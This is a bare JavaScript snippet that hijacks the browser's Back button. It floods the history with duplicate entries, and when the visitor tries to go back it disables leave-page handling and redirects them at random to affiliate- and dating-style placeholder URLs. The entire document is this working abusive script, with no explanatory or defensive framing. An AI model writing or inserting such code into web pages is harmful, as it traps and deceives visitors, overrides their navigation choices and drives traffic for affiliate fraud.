(function (w, d, h) {
  var next = ['https://a.melody-aff.example/CdV', 'https://b.click-up.example/c?o=2&a=6549', 'https://c.lovefeed.example/?s=tg'];
  h.replaceState(null, d.title, location.pathname + location.search);
  for (var i = 0; i < 10; i++) { try { h.pushState(null, d.title, location.pathname + location.search); } catch (e) { break; } }
  w.addEventListener('popstate', function () {
    h.replaceState(null, d.title, location.pathname);
    w.onbeforeunload = null;
    w.location.replace(next[Math.floor(Math.random() * next.length)]);
  });
})(window, document, history);
